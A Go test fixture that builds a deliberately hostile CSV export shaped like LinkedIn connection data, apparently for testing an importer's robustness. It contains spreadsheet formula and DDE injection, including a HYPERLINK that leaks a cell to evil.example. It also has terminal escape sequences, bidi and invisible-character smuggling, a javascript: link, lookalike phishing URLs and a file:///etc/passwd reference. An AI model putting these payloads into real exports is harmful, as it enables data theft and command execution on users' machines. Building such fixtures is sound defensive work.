package main

import "strings"

// hostile is an export in which everybody wants something: to run in a
// spreadsheet, to steer the terminal, to hide behind another name or to break the
// reader. Each row is written as the bytes it is.
func hostile() []byte {
	lines := []string{
		heading(),

		// Cells a spreadsheet would run.
		`"=HYPERLINK(""http://evil.example/?""&A1)",Formula,https://www.linkedin.com/in/formula-00005001,,"=cmd|' /C calc'!A0",+1+1,09 Oct 2026`,
		`@SUM(A1:A9),Atsign,https://www.linkedin.com/in/atsign-00005002,,-2+3,` + "\tTabbed" + `,08 Oct 2026`,

		// Text that a terminal would obey: colour, title, clear, clipboard, link.
		"\x1b[31mRed\x1b[0m,Escape,https://www.linkedin.com/in/escape-00005003,,\x1b]0;Owned\x07Title Setters,\x1b[2J\x1b[HClear the Screen,07 Oct 2026",
		"Clip,\x1b]52;c;ZXZpbA==\x07Board,https://www.linkedin.com/in/clip-00005004,,\u009b31mControls & Sons,\x1b]8;;http://evil.example\x1b\\Linked\x1b]8;;\x1b\\,06 Oct 2026",
		"Back\b\b\b\bFront,\"Carriage\rReturn\",https://www.linkedin.com/in/carriage-00005005,,Bells \a Ltd,Deleter\x7f,05 Oct 2026",

		// Text that reads as another text.
		"\u202ednalloR,Override,https://www.linkedin.com/in/override-00005006,,\u202edtL emcA,\u2066Isolated\u2069 Adviser,04 Oct 2026",
		"Ze\u200bro,Wid\u200dth\ufeff,https://www.linkedin.com/in/zero-00005007,,\u3164\u3164\u3164,\u00adSoft Hyphen\u00ad,03 Oct 2026",
		"Z" + strings.Repeat("\u0301\u0317", 40) + "alg,Stacked,https://www.linkedin.com/in/zalg-00005008,,Tall Marks,Tower Builder,02 Oct 2026",
		"Tag\U000e0041\U000e0042,Smuggler,https://www.linkedin.com/in/tag-00005009,,Unseen \U000e004c\U000e0074\U000e0064,Courier,01 Oct 2026",

		// Quotes out of place: a bare one, one never closed, one closed too soon.
		`Bare "Quote",Bearer,https://www.linkedin.com/in/bare-00005010,,Inch 5" Pipes,Plumber,30 Sep 2026`,
		`Open,Ended,https://www.linkedin.com/in/open-00005011,,"Never Closed,Door Keeper,29 Sep 2026`,
		`Early,"Closed" Shop,https://www.linkedin.com/in/early-00005012,,Shopkeepers,Owner,28 Sep 2026`,
		"Broken,Line,https://www.linkedin.com/in/broken-00005013,,\"Two\nLines Ltd\",\"Tab\tand \"\"Quote\"\"\",27 Sep 2026",

		// Rows of the wrong width.
		`Short,Row`,
		`Long,Row,https://www.linkedin.com/in/long-00005014,,Overfull Barrels,Cooper,25 Sep 2026,one,two,three`,
		`Spare,Commas,https://www.linkedin.com/in/spare-00005015,,Comma Stores,Clerk,24 Sep 2026,,,,`,

		// Links that lead elsewhere, and one that cannot be decoded.
		`Script,Link,javascript:alert(1),,Popup Works,Animator,23 Sep 2026`,
		`Other,Host,https://www.linkedin.com.evil.example/in/other-00005016,,Phishers,Angler,22 Sep 2026`,
		`User,Info,https://www.linkedin.com@evil.example/in/user-00005017,,Phishers,Angler,21 Sep 2026`,
		`Local,File,file:///etc/passwd,,Passers,Reader,20 Sep 2026`,
		`Bad,Escape,https://www.linkedin.com/in/bad-%zz-00005018,,Percent Works,Decoder,19 Sep 2026`,

		// Addresses and dates that are none.
		`No,At,https://www.linkedin.com/in/no-at-00005019,not an address,Postless,Sender,31 Feb 2026`,
		`Two,Addresses,https://www.linkedin.com/in/two-00005020,mailto:a@one.example; b@two.example,Twice Told,Teller,45292`,
		`Far,Future,https://www.linkedin.com/in/far-00005021,,Tomorrow,Forecaster,01 Jan 2999`,

		// One person twice, a second header, and nobody at all.
		`Same,Slug,https://www.linkedin.com/in/same-00005022,,Once,First,15 Sep 2026`,
		`Same,Slug,https://de.linkedin.com/in/SAME-00005022/?trk=people,,Again,Second,14 Sep 2026`,
		strings.Join(today(), ","),
		`,,,,,,13 Sep 2026`,
		`,,,,,,`,

		// Bytes of two encodings in one file, letters encoded twice, letters lost.
		"Andr\xe9,B\xf6hler,https://www.linkedin.com/in/andre-00005023,,Caf\xe9 Encodings,Ma\xeetre,12 Sep 2026",
		"Zo\u00c3\u00ab,M\u00c3\u00bcller,https://www.linkedin.com/in/zoe-00005024,,Twice Baked,B\u00c3\u00a4cker,11 Sep 2026",
		"Lost,L\ufffd\ufffdters,https://www.linkedin.com/in/lost-00005025,,\ufffd\ufffd\ufffd,Archivist,10 Sep 2026",

		// One cell as long as a chapter.
		"Wordy,Writer,https://www.linkedin.com/in/wordy-00005026,," + strings.Repeat("Very ", 400) + "Long Names,Author,09 Sep 2026",
	}
	return []byte(strings.Join(lines, "\n"))
}
